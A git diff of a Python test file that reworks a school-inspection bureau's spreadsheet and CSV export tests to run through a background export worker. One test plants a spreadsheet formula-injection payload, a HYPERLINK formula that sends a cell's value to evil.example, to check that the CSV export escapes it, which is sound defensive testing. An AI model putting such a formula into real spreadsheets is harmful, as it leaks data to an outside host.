@@ -4,19 +4,37 @@ from __future__ import annotations
 
 import csv
 import io
+import threading
 import zipfile
 from datetime import date, datetime, timedelta
 
 import pytest
 from openpyxl import load_workbook
 
-from .support import TERM
+from inspect_app.bureau import export_jobs
+from inspect_app.storage.db import open_database
+
+from .support import TERM, csrf_token
+
+
+def _export(client, fmt: str, query: dict):
+    """Ask for an export as the page's button does, let the worker write it (in this
+    process), and download it."""
+    token = csrf_token(client, "/bureau/bulletins")
+    response = client.post("/bureau/exports", data={**query, "format": fmt, "csrf_token": token})
+    assert response.status_code == 302
+    job_id = int(response.headers["Location"].rsplit("/", 1)[1])
+    config = client.application.config
+    db = open_database(config["DATABASE"])
+    try:
+        assert export_jobs.ExportWorker(config, threading.Event()).run_once(db)
+    finally:
+        db.close()
+    return client.get(f"/bureau/exports/{job_id}/download")
 
 
 def _workbook(client):
-    response = client.get(
-        "/bureau/export.xlsx", query_string={**TERM, "checklist": "fupin_comprehensive"}
-    )
+    response = _export(client, "xlsx", {**TERM, "checklist": "fupin_comprehensive"})
     assert response.status_code == 200
     assert response.mimetype.endswith("spreadsheetml.sheet")
     assert "attachment" in response.headers["Content-Disposition"]
@@ -72,9 +90,7 @@ def test_rows_come_by_school_and_date_items_in_checklist_order(client, auth, rec
 def test_csv_zip_has_one_bom_csv_per_sheet_with_the_same_rows(client, auth, received):
     auth.login("bureau")
     wb = _workbook(client)
-    response = client.get(
-        "/bureau/export.zip", query_string={**TERM, "checklist": "fupin_comprehensive"}
-    )
+    response = _export(client, "zip", {**TERM, "checklist": "fupin_comprehensive"})
     assert response.status_code == 200
     archive = zipfile.ZipFile(io.BytesIO(response.data))
     names = archive.namelist()
@@ -89,7 +105,7 @@ def test_csv_zip_has_one_bom_csv_per_sheet_with_the_same_rows(client, auth, rece
 
 def test_export_of_an_empty_period_still_has_headers(client, auth, received):
     auth.login("bureau")
-    response = client.get("/bureau/export.xlsx", query_string={"period": "month", "key": "2025-01"})
+    response = _export(client, "xlsx", {"period": "month", "key": "2025-01"})
     wb = load_workbook(io.BytesIO(response.data), read_only=True)
     assert [len(list(wb[name].values)) for name in wb.sheetnames] == [4, 1, 1, 1]
 
@@ -151,9 +167,7 @@ def test_text_that_a_spreadsheet_would_run_is_escaped_in_csv(client, auth, db, r
     typed = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
     db.execute("UPDATE rectifications SET problem = ?, action = ?", [typed, "@SUM(1+1)"])
     auth.login("bureau")
-    response = client.get(
-        "/bureau/export.zip", query_string={**TERM, "checklist": "fupin_comprehensive"}
-    )
+    response = _export(client, "zip", {**TERM, "checklist": "fupin_comprehensive"})
     archive = zipfile.ZipFile(io.BytesIO(response.data))
     rows = list(csv.reader(io.StringIO(archive.read("4-整改情况.csv").decode("utf-8-sig"))))
     header, body = rows[0], rows[1:]
@@ -183,9 +197,7 @@ def test_cells_are_typed_dates_numbers_and_percentages(client, auth, db, receive
     """Dates sort and filter as dates, scores add up, rates show as percentages; the
     checklist is named by its title, with its id beside it."""
     auth.login("bureau")
-    response = client.get(
-        "/bureau/export.xlsx", query_string={**TERM, "checklist": "fupin_comprehensive"}
-    )
+    response = _export(client, "xlsx", {**TERM, "checklist": "fupin_comprehensive"})
     book = load_workbook(io.BytesIO(response.data))  # not read-only: cell styles are read
     sheet = book["学校汇总"]
     header = [c.value for c in sheet[1]]
@@ -217,8 +229,7 @@ def test_cells_are_typed_dates_numbers_and_percentages(client, auth, db, receive
     row = dict(zip(header, next(rect.iter_rows(min_row=2)), strict=False))
     assert row["整改时限"].is_date and row["检查日期"].is_date
     # the CSV copy writes the same cells as text a person reads
-    archive = zipfile.ZipFile(io.BytesIO(client.get(
-        "/bureau/export.zip", query_string={**TERM, "checklist": "fupin_comprehensive"}).data))  # fmt: skip
+    archive = zipfile.ZipFile(io.BytesIO(_export(client, "zip", {**TERM, "checklist": "fupin_comprehensive"}).data))  # fmt: skip
     rows = list(csv.reader(io.StringIO(archive.read("1-学校汇总.csv").decode("utf-8-sig"))))
     shown = dict(zip(rows[0], next(r for r in rows[1:] if r[1] == "A001"), strict=False))
     assert shown["最近检查日期"] == "2026-11-20" and shown["检查单编号"] == "fupin_comprehensive"
